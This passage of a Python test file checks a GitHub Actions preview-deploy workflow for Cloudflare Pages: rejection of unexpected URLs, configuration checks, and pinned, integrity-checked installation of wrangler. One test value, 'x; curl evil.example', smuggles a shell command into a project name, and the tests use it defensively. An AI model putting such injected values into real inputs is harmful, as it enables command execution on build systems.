    # Another Cloudflare Pages project than the configured one:
    "Deployment alias URL: https://pr-12.attacker-project.pages.dev\n",
    "Take a peek over at https://0a1b2c3d.dossier-previewsx.pages.dev\n",
])
def test_deploy_step_refuses_an_unexpected_url(tmp_path, stdout):
    result, outputs, _ = run_deploy_step(tmp_path, stdout)
    assert result.returncode != 0 and outputs == {}


@pytest.mark.parametrize("overrides", [
    {"CLOUDFLARE_API_TOKEN": ""},
    {"CLOUDFLARE_ACCOUNT_ID": ""},
    {"PAGES_PROJECT": ""},
    {"PAGES_PROJECT": "x; curl evil.example"},
    {"PAGES_PROJECT": "Dossier"},
])
def test_deploy_step_stops_before_wrangler_without_configuration(tmp_path, overrides):
    result, outputs, log = run_deploy_step(tmp_path, WRANGLER_OUTPUT, **overrides)
    assert result.returncode != 0 and outputs == {}
    assert not (log / "args").exists(), "wrangler was called"


def test_preview_comment_step_runs_the_comment_script_with_checked_values_only():
    workflow = load(PREVIEW_DEPLOY)
    comment = next(step for _, step in steps(workflow) if "preview_comment.py" in step.get("run", ""))
    assert comment["env"] == {
        "GH_TOKEN": "${{ github.token }}",
        "PR_NUMBER": "${{ steps.artifact.outputs.pr_number }}",
        "HEAD_SHA": "${{ steps.artifact.outputs.head_sha }}",
        "PREVIEW_URL": "${{ steps.deploy.outputs.url }}",
        "REASON": "${{ steps.pr.outputs.reason }}",
        "REPORT_FILE": "${{ runner.temp }}/preview/report.md",
    }
    assert comment["if"] == "steps.deploy.outcome == 'success' || steps.pr.outputs.reason == 'needs-label'"
    scripts = [step for _, step in steps(workflow) if str(step.get("uses", "")).startswith("actions/github-script@")]
    withdraw = next(step for step in scripts if "removeLabel" in step["with"]["script"])
    assert "steps.pr.outputs.fork == 'true'" in withdraw["if"]
    assert APPROVAL_LABEL in withdraw["with"]["script"]


# ---- the deploy tool, installed from a lockfile


DEPLOY_DIR = ROOT / ".github" / "deploy"


def test_wrangler_is_pinned_in_a_committed_lockfile():
    package = json.loads((DEPLOY_DIR / "package.json").read_text("utf-8"))
    lock = json.loads((DEPLOY_DIR / "package-lock.json").read_text("utf-8"))
    version = package["dependencies"]["wrangler"]
    assert re.fullmatch(r"\d+\.\d+\.\d+", version), "an exact version, not a range"
    assert lock["packages"][""]["dependencies"] == package["dependencies"]
    assert lock["packages"]["node_modules/wrangler"]["version"] == version
    missing = [name for name, entry in lock["packages"].items()
               if name and not entry.get("link") and not entry.get("integrity", "").startswith("sha512-")]
    assert missing == [], "every package of the lockfile carries its integrity hash"


def test_install_step_runs_npm_ci_on_the_trusted_lockfile_only(tmp_path):
    step = step_by_id(load(PREVIEW_DEPLOY), "tool")
    assert step["env"] == {"DEPLOY_DIR": "trusted/.github/deploy"}
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    (fake_bin / "npm").write_text('#!/usr/bin/env bash\nprintf \'%s\\n\' "$@" > "$FAKE_LOG"\nls "$3" >> "$FAKE_LOG"\n')
    (fake_bin / "npm").chmod(0o755)
    work = tmp_path / "work"
    (work / "trusted" / ".github" / "deploy").mkdir(parents=True)
    for name in ("package.json", "package-lock.json"):
        (work / "trusted" / ".github" / "deploy" / name).write_bytes((DEPLOY_DIR / name).read_bytes())
    (work / "trusted" / ".github" / "deploy" / "functions").mkdir()  # never copied
    runner_temp = tmp_path / "runner-temp"
    runner_temp.mkdir()
    script = tmp_path / "install.sh"
    script.write_text(step["run"], encoding="utf-8")
    env = {"PATH": f"{fake_bin}{os.pathsep}{os.environ.get('PATH', '')}", "RUNNER_TEMP": str(runner_temp),
           "GITHUB_OUTPUT": str(tmp_path / "out"), "FAKE_LOG": str(tmp_path / "npm.log"), **step["env"]}
    result = subprocess.run(["bash", "--noprofile", "--norc", "-e", str(script)], env=env, cwd=work,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    tool = runner_temp / "deploy-tool"
    assert (tmp_path / "npm.log").read_text().splitlines() == [
        "ci", "--prefix", str(tool), "--ignore-scripts", "--no-audit", "--no-fund", "package-lock.json", "package.json"]
    assert read_outputs(tmp_path / "out") == {"wrangler": f"{tool}/node_modules/.bin/wrangler"}
